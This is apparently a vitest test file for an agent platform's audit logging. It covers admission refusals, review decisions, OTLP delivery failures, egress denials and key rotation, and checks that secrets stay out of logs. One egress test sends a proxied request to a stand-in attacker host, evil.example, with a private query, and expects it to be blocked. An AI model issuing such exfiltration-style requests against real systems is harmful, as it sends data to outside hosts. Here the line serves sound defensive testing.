import { generateKeyPairSync } from "node:crypto";
import { mkdtemp, rm } from "node:fs/promises";
import http, { type ServerResponse } from "node:http";
import { request } from "node:https";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { createFolderArtifacts } from "../../lib/edges/artifacts.ts";
import { createFolderReviews } from "../../lib/edges/reviews/folder.ts";
import { mintReviewLink } from "../../lib/review-link.ts";
import { mintStepTokens } from "../../lib/token.ts";
import { type Served, serveFunction } from "../func/served.ts";
import { startRedis } from "../redis-server.ts";
import { startLogReceiver } from "../telemetry/otlp-logs.ts";
import { writeKubeconfig } from "./kubeconfig.ts";
import { REF, recordOf, WORKLOAD } from "./review-fixture.ts";

// Functions as processes, and what a receiver of OTLP gets of them. That the API server asks admit is for the tests on a cluster.

const keys = generateKeyPairSync("ed25519");
const publicPem = keys.publicKey.export({ type: "spki", format: "pem" }).toString();
const privatePem = keys.privateKey.export({ type: "pkcs8", format: "pem" }).toString();
let folder: string;
let otlp: Awaited<ReturnType<typeof startLogReceiver>>;
const served: Served[] = [];
const takes = (response: ServerResponse): void => void response.writeHead(200).end();

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "agentic-audit-"));
  otlp = await startLogReceiver();
});
beforeEach(() => {
  otlp.receiver.answer = takes;
  otlp.records.length = otlp.posts.length = 0;
});
/** So that none sends anything during the next test. */
const endAll = async (): Promise<void> => {
  for (const one of served.splice(0)) await one.end();
};
afterAll(async () => {
  await endAll();
  await otlp.close();
  await rm(folder, { recursive: true, force: true });
});

async function serve(name: string, own: Readonly<Record<string, string>>): Promise<Served> {
  const settings = { OTEL_EXPORTER_OTLP_ENDPOINT: otlp.url, OTEL_EXPORTER_OTLP_TIMEOUT: "60000" };
  const one = await serveFunction(name, { ...settings, ...own });
  served.push(one);
  return one;
}

const audited = () => otlp.records.filter(({ scope }) => scope === "audit");
/** Lines of the process's own log. */
const linesOf = (one: Served): Record<string, unknown>[] =>
  one
    .said()
    .split("\n")
    .filter((line) => line.startsWith("{"))
    .map((line) => JSON.parse(line));
const auditLines = (one: Served) => linesOf(one).filter(({ audit }) => audit === true);

describe("admit", () => {
  let api: http.Server;
  let admit: Served;
  /** Of the API server what admit needs to serve: the Secret of its certificate. */
  const secret = { metadata: { name: "agentic-admit-tls", resourceVersion: "1" }, data: {} as Record<string, string> };
  beforeAll(async () => {
    api = http.createServer(async (asked, response) => {
      let text = "";
      for await (const chunk of asked) text += chunk;
      const isOwn = asked.url?.endsWith("/secrets/agentic-admit-tls");
      if (isOwn && asked.method === "PATCH")
        for (const [key, value] of Object.entries<string>(JSON.parse(text).stringData))
          secret.data[key] = Buffer.from(value).toString("base64");
      const missing = { kind: "Status", code: 404, reason: "NotFound", message: "not there" };
      response.writeHead(isOwn ? 200 : 404, { "content-type": "application/json" });
      response.end(JSON.stringify(isOwn ? secret : missing));
    });
    await new Promise<void>((resolve) => api.listen(0, "127.0.0.1", resolve));
    const KUBECONFIG = await writeKubeconfig(folder, (api.address() as AddressInfo).port);
    admit = await serve("admit", { KUBECONFIG });
  });
  afterAll(async () => {
    await endAll();
    api.closeAllConnections();
    api.close();
  });

  const steps = [{ name: "read", agent: "reader" }];
  const object = (kind: string, spec: object, metadata: object = { name: "demo" }) => ({
    apiVersion: "agentic.dev/v1alpha1",
    kind,
    metadata: { namespace: "team-a", ...metadata },
    spec,
  });

  /** As the API server asks. */
  function ask(path: "/validate" | "/record", asked: object): Promise<{ allowed: boolean }> {
    const { port } = new URL(admit.url);
    const body = { apiVersion: "admission.k8s.io/v1", kind: "AdmissionReview", request: { uid: "u-1", ...asked } };
    return new Promise((resolve, reject) => {
      const sent = request(
        {
          host: "127.0.0.1",
          port,
          path,
          method: "POST",
          rejectUnauthorized: false,
          servername: "admit.agentic-system.svc",
        },
        async (response) => {
          let text = "";
          for await (const chunk of response) text += chunk;
          resolve(JSON.parse(text).response);
        },
      );
      sent.on("error", reject).end(JSON.stringify(body));
    });
  }
  const ann = { userInfo: { username: "ann@example.com", groups: ["system:authenticated"] } };

  test("made its certificate, and says so", async () => {
    await vi.waitFor(() => expect(audited()).toHaveLength(1), { timeout: 5000 });
    expect(audited()[0]).toMatchObject({
      service: "admit",
      event: "agentic.audit.key.changed",
      attributes: {
        "agentic.key.use": "Secret agentic-admit-tls",
        "agentic.key.id": expect.stringMatching(/^([0-9A-F]{2}:){31}[0-9A-F]{2}$/),
      },
    });
  });

  test("refuses, and the record of who was refused what, and why, is there before the API server has its answer", async () => {
    const token = "hunter2hunter2";
    const uri = `http://ann:${token}@10.0.0.7/`;
    const answer = await ask("/validate", { ...ann, operation: "CREATE", object: object("Agent", { uri }) });
    expect(answer.allowed).toBe(false);
    expect(audited()).toEqual([
      expect.objectContaining({
        service: "admit",
        event: "agentic.audit.object.refused",
        severity: 9,
        body: "object refused",
        attributes: {
          "user.name": "ann@example.com",
          "agentic.object.kind": "Agent",
          "k8s.namespace.name": "team-a",
          "agentic.object.name": "demo",
          "agentic.message": expect.stringContaining("spec.uri"),
        },
      }),
    ]);
    const { attributes, event } = audited()[0] ?? {};
    expect(auditLines(admit)).toContainEqual(expect.objectContaining({ ...attributes, event, audit: true }));
    expect(Buffer.concat(otlp.posts).includes(token)).toBe(false);
    expect(admit.said()).not.toContain(token);
  });

  test.each<[string, "/validate" | "/record", object, string]>([
    ["creates", "/validate", { operation: "CREATE", object: object("AgentPipeline", { steps }) }, "object.created"],
    ["changes", "/validate", { operation: "UPDATE", object: object("AgentPipeline", { steps }) }, "object.changed"],
    [
      "deletes",
      "/record",
      { operation: "DELETE", object: null, oldObject: object("AgentPipeline", {}) },
      "object.deleted",
    ],
  ])("who %s is named", async (_what, path, asked, event) => {
    expect((await ask(path, { ...ann, ...asked })).allowed).toBe(true);
    expect(audited()).toEqual([
      expect.objectContaining({
        event: `agentic.audit.${event}`,
        attributes: expect.objectContaining({ "user.name": "ann@example.com", "agentic.object.name": "demo" }),
      }),
    ]);
  });

  test("an AgentDecision is let in whatever it is, and names its workload; its comment is not told", async () => {
    const spec = { workload: "market", decision: "approved", by: "ann@example.com", comment: "between us" };
    const decision = object("AgentDecision", spec, { generateName: "market-" });
    expect((await ask("/record", { ...ann, operation: "CREATE", object: decision })).allowed).toBe(true);
    expect(audited()[0]).toMatchObject({
      event: "agentic.audit.object.created",
      attributes: {
        "agentic.object.kind": "AgentDecision",
        "agentic.object.name": "market-",
        "agentic.workload.namespace": "team-a",
        "agentic.workload.name": "market",
      },
    });
    expect(Buffer.concat(otlp.posts).includes("between us")).toBe(false);
  });

  test("a dry run makes nothing, and is told of only where it is refused", async () => {
    const dryRun = { ...ann, dryRun: true, operation: "CREATE" };
    await ask("/validate", { ...dryRun, object: object("AgentPipeline", { steps }) });
    await ask("/record", { ...dryRun, object: object("AgentDecision", {}) });
    expect(audited()).toEqual([]);
    await ask("/validate", { ...dryRun, object: object("AgentPipeline", {}) });
    expect(audited()[0]?.attributes).toMatchObject({ "agentic.dry_run": true });
  });
});

describe("approve", () => {
  afterEach(endAll);
  const COMMENT = "Ask legal first.";
  const open = async () => {
    const record = {
      ...(await recordOf(createFolderArtifacts(folder), [])),
      workload: WORKLOAD,
    };
    const { review } = record;
    const inTime = { ...record, review: { ...review, timeoutAt: new Date(Date.now() + 3_600_000).toISOString() } };
    await createFolderReviews(join(folder, "reviews")).open(inTime);
    const link = { ...REF, gate: review.gate, digest: review.digest, by: "ada", how: "ReviewLink" } as const;
    return { token: await mintReviewLink(keys.privateKey, link, new Date(Date.now() + 60_000)), digest: review.digest };
  };
  const approveBy = (own: Readonly<Record<string, string>> = {}) =>
    serve("approve", { ARTIFACTS_URL: `file://${folder}`, REVIEW_LINK_PUBLIC_KEY: publicPem, ...own });
  const decide = (one: Served, token: string, digest: string) =>
    fetch(`${one.url}/review/default/invoicing/review`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      body: JSON.stringify({ decision: "approved", digest, comment: COMMENT }),
    });

  test("a decision, one that does not count, and one without permission: who, what, why, in the run's trace", async () => {
    const { token, digest } = await open();
    const approve = await approveBy();
    expect((await decide(approve, token, "0".repeat(64))).status).toBe(409);
    expect((await decide(approve, "nonsense", digest)).status).toBe(401);
    expect((await decide(approve, token, digest)).status).toBe(200);
    const about = {
      "agentic.workload.namespace": "default",
      "agentic.workload.name": "invoicing",
      "agentic.step": "review",
    };
    const who = { "user.name": "ada", "agentic.decision.how": "ReviewLink", "agentic.outcome": "approved" };
    const records = audited();
    expect(records.map(({ event, severity, attributes }) => [event, severity, attributes])).toEqual([
      [
        "agentic.audit.decision.denied",
        13,
        expect.objectContaining({ ...about, ...who, "agentic.reason": "DigestMismatch" }),
      ],
      ["agentic.audit.access.denied", 13, expect.objectContaining({ ...about, "agentic.reason": "NotAllowed" })],
      ["agentic.audit.decision.made", 9, { ...about, ...who, "agentic.findings.digest": digest }],
    ]);
    expect(records.map(({ traceId }) => traceId !== "")).toEqual([true, false, true]);
    expect(auditLines(approve)).toMatchObject(records.map(({ event, attributes }) => ({ event, ...attributes })));
    expect(auditLines(approve)[0]?.["trace_id"]).toBe(records[0]?.traceId);
    const sent = Buffer.concat(otlp.posts);
    for (const secret of [token, "nonsense", COMMENT]) {
      expect(sent.includes(secret)).toBe(false);
      expect(approve.said()).not.toContain(secret);
    }
  });

  test.each<[string, (response: ServerResponse) => void]>([
    ["hangs", () => undefined],
    ["refuses", (response) => void response.writeHead(400).end()],
    ["answers 500", (response) => void response.writeHead(500).end()],
    ["is busy", (response) => void response.writeHead(503, { "retry-after": "30" }).end()],
  ])("a receiver that %s costs one answer a moment, and no line of the pod's log", async (_what, answer) => {
    const { digest } = await open();
    const approve = await approveBy();
    otlp.receiver.answer = answer;
    const taken: number[] = [];
    for (let i = 0; i < 5; i++) {
      const startedAt = performance.now();
      expect((await decide(approve, "nonsense", digest)).status).toBe(401);
      taken.push(performance.now() - startedAt);
    }
    // The first finds code that was never run, and waits for its record 100 ms at most. Others do not wait, whatever else this machine does.
    expect(taken[0]).toBeLessThan(1000);
    expect(taken.slice(1).toSorted((a, b) => a - b)[1]).toBeLessThan(90);
    expect(auditLines(approve)).toHaveLength(5);
  });

  test("without a receiver the pod's log has the same lines", async () => {
    const { digest } = await open();
    const approve = await approveBy({ OTEL_EXPORTER_OTLP_ENDPOINT: "" });
    await decide(approve, "nonsense", digest);
    expect(auditLines(approve)).toMatchObject([{ event: "agentic.audit.access.denied", msg: "access denied" }]);
    expect(audited()).toEqual([]);
  });

  test.each([
    ["", 0, 1],
    ["otlp", 1, 1],
    ["none", 0, 0],
  ])("with OTEL_LOGS_EXPORTER %j: %i ordinary lines, %i audit records", async (exporter, lines, records) => {
    const approve = await approveBy({ OTEL_LOGS_EXPORTER: exporter });
    const event = { method: "POST", headers: { "content-type": "application/json" }, body: "{}" };
    await fetch(approve.url, event);
    await decide(approve, "nonsense", "0".repeat(64));
    await vi.waitFor(() => {
      const ordinary = otlp.records.filter(({ scope, body }) => scope === "log" && body === "event refused");
      expect([ordinary.length, audited().length]).toEqual([lines, records]);
    });
    for (const { severity, attributes } of otlp.records.filter(({ body }) => body === "event refused"))
      expect([severity, attributes]).toEqual([13, { problem: expect.any(String) }]);
  });
});

test("what is said of a receiver in trouble is not sent to it, once it takes something again", async () => {
  const approve = await serve("approve", {
    ARTIFACTS_URL: `file://${folder}`,
    REVIEW_LINK_PUBLIC_KEY: publicPem,
    OTEL_LOGS_EXPORTER: "otlp",
  });
  const ask = () => fetch(approve.url, { method: "POST", body: "{}" });
  otlp.receiver.answer = (response) => void response.writeHead(400).end();
  await ask();
  await vi.waitFor(() => expect(approve.said()).toContain("telemetry not sent"), { timeout: 5000 });
  otlp.receiver.answer = takes;
  otlp.records.length = 0;
  await ask();
  await vi.waitFor(() => expect(otlp.records.map(({ body }) => body)).toContain("event refused"), { timeout: 5000 });
  expect(otlp.records.map(({ body }) => body)).not.toContain("telemetry not sent");
  await endAll();
});

test("egress refused: which step, which host, why; once, however often it is asked for", async () => {
  const identity = "team-a.0123456789abcdef";
  const claims = {
    sub: "uid",
    jti: identity,
    run: "run-1",
    allow: ["shop.example"],
    deadline: new Date(Date.now() + 60_000).toISOString(),
    retryLimit: 0,
  };
  const { egressToken } = await mintStepTokens(claims, keys.privateKey, new Date(Date.now() + 60_000));
  const egress = await serve("egress", { STEP_TOKEN_PUBLIC_KEY: publicPem });
  const { hostname: host, port } = new URL(egress.url);
  const authorization = `Basic ${Buffer.from(`${identity}:${egressToken}`).toString("base64")}`;
  for (let i = 0; i < 3; i++) {
    const status = await new Promise((resolve, reject) => {
      const headers = { "proxy-authorization": authorization };
      const asked = http.get({ host, port, path: "http://evil.example:8080/?q=private", headers }, (response) => {
        response.resume();
        resolve(response.statusCode);
      });
      asked.on("error", reject);
    });
    expect(status).toBe(403);
  }
  await vi.waitFor(() => expect(audited()).not.toEqual([]), { timeout: 5000 });
  expect(audited().map(({ event, attributes }) => [event, attributes])).toEqual([
    [
      "agentic.audit.egress.refused",
      {
        "agentic.step.identity": identity,
        "server.address": "evil.example",
        "server.port": 8080,
        "agentic.reason": "HostNotAllowed",
        "agentic.message": expect.stringContaining("evil.example"),
      },
    ],
  ]);
  expect(auditLines(egress)).toHaveLength(1);
  for (const secret of [egressToken, "q=private"]) {
    expect(Buffer.concat(otlp.posts).includes(secret)).toBe(false);
    expect(egress.said()).not.toContain(secret);
  }
});

test("keys that reconcile starts with are said once, and again when they are others", async () => {
  const redis = await startRedis();
  const other = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
  try {
    const said: unknown[][] = [];
    for (const [stepKey, accepted] of [
      [privatePem, ""],
      [privatePem, ""],
      [other, publicPem],
    ] as const) {
      const reconcile = await serve("reconcile", {
        REDIS_URL: redis.url,
        ARTIFACTS_URL: `file://${folder}`,
        STEP_TOKEN_PRIVATE_KEY: stepKey,
        REVIEW_LINK_PRIVATE_KEY: privatePem,
        STEP_TOKEN_PUBLIC_KEY: accepted,
        BROKER_URL: "http://127.0.0.1:1",
      });
      await new Promise((resolve) => setTimeout(resolve, 300));
      await reconcile.end();
      said.push(audited().map(({ attributes }) => attributes["agentic.key.use"]));
      if (accepted) {
        const { attributes = {} as Record<string, unknown> } = audited()[0] ?? {};
        expect(attributes["agentic.key.previous"]).toMatch(/^[\w-]{43}$/);
        expect(attributes["agentic.key.id"]).not.toBe(attributes["agentic.key.previous"]);
        expect(attributes["agentic.key.accepted"]).toHaveLength(2);
      }
      otlp.records.length = 0;
    }
    expect(said).toEqual([["step tokens", "review links"], [], ["step tokens"]]);
  } finally {
    await redis.stop();
  }
});
